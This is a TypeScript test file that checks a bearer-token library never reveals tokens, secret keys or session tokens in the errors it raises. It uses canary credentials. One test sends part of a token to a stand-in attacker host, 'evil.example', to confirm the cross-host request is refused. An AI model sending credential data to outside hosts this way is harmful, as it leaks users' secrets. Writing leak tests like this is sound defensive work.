// Bearer tokens are passwords: none of the ways making or using one can fail shows the token,
// the secret or the session token it was made from (in the error's message, toString(), JSON,
// stack, fields or cause chain).

import { setupMockService } from "@sagefetch/testing/startMock";
import OpenAI from "openai";
import { describe, expect, it } from "vitest";
import {
  bearerTokenFetch,
  createBearerToken,
  createBearerTokenSource,
  openAiRouteOptions,
} from "../../src/index";
import { bearerTokenLeaks, leaks } from "./scan";

const CANARY = {
  secretAccessKey: "canarySECRET/bearer+4f1c9e2d",
  sessionToken: "canaryTOKEN-bearer-IQoJb3JpZ2luX2Vj==",
};
const CREDENTIALS = { accessKeyId: "ASIACANARYBEARER", ...CANARY };
const SECRETS = new Map(Object.entries(CANARY).map(([name, value]) => [value, name]));
const findings = (error: unknown) => [
  ...leaks(error, SECRETS, "error"),
  ...bearerTokenLeaks(error, "error"),
];
const failure = (run: () => unknown) =>
  Promise.resolve()
    .then(run)
    .then(
      () => new Error("no error"),
      (e: unknown) => e,
    );

const service = setupMockService();

describe("bearer tokens in failures", () => {
  it.each([
    ["expiresIn out of range", { expiresIn: 90_000 }],
    ["a bad region", { region: "not a region" }],
    ["a bad date", { signingDate: new Date(Number.NaN) }],
  ])("createBearerToken with %s", async (_label, bad) => {
    const error = await failure(() =>
      createBearerToken({ credentials: CREDENTIALS, region: "us-east-1", ...(bad as object) }),
    );
    expect(error).toMatchObject({ name: "BearerTokenError" });
    expect(findings(error)).toEqual([]);
  });

  it("a token source whose provider fails", async () => {
    const tokens = createBearerTokenSource({
      credentials: async () => {
        throw new Error("provider down");
      },
      region: "us-east-1",
    });
    expect(findings(await failure(() => tokens()))).toEqual([]);
  });

  it("a request to another host than the route's", async () => {
    const token = createBearerToken({ credentials: CREDENTIALS, region: "us-east-1" });
    const tokenFetch = bearerTokenFetch({
      tokens: async () => token,
      origin: "https://runtime.sagemaker.us-east-1.amazonaws.com",
      fetch: async () => new Response(),
    });
    const error = await failure(() => tokenFetch(`https://evil.example/?q=${token.slice(0, 4)}`));
    expect(error).toMatchObject({ name: "BearerTokenError" });
    expect(findings(error)).toEqual([]);
  });

  it("a token the service refuses, as the openai client reports it", async () => {
    const client = new OpenAI({
      ...openAiRouteOptions({
        region: "us-east-1",
        endpointName: "chat",
        credentials: CREDENTIALS,
        fetch: service.fetch,
      }),
      dangerouslyAllowBrowser: true,
      maxRetries: 0,
    });
    const error = await failure(() =>
      client.chat.completions.create({ model: "m", messages: [{ role: "user", content: "x" }] }),
    );
    expect(error).toMatchObject({ status: 401 });
    expect(findings(error)).toEqual([]);
  });
});
